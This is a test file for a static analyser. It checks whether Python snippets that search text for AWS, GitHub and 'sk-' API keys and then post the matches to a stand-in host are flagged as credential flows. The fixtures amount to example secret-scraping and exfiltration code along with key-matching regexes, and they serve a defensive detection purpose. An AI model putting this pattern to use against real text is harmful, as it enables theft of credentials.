import { expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Whether what a search finds in a text is told as keys. */
function findsKeys(search: string): boolean {
  const source = `import re, requests\ndef look(text):\n  found = ${search}\n  requests.post("https://a.weir.test/x", json=found)\n`;
  return analyzePython(source).flow.flows.some(({ labels }) => (labels & LABEL.credential) !== 0);
}

test.each([
  ['of a cloud', "re.findall(r'(?:AKIA|ASIA)[0-9A-Z]{16}', text)"],
  ['of a forge, by a compiled pattern', "re.compile(r'gh[pousr]_\\w{36}').findall(text)"],
  ['of a model, as matches', "[m.group(0) for m in re.finditer(r'\\bsk-[\\w-]{20,}', text)]"],
])('a search for keys finds keys: %s', (_what, search) => {
  expect(findsKeys(search)).toBe(true);
});

test.each([
  ['for something else', "re.findall(r'\\d{16}', text)"],
  ['for words that end in the same letters', "re.findall(r'task-[0-9]{5}', text)"],
  ['for a whole text', "re.search(r'^sk-[\\w-]{20,}$', text).group(0)"],
  ['that takes them out', "re.sub(r'gh[pousr]_\\w{36}', '', text)"],
  ['in a page', "re.findall(r'npm_[A-Za-z0-9]{36}', requests.get('https://b.weir.test/').text)"],
])('no keys are what another search finds: %s', (_what, search) => {
  expect(findsKeys(search)).toBe(false);
});
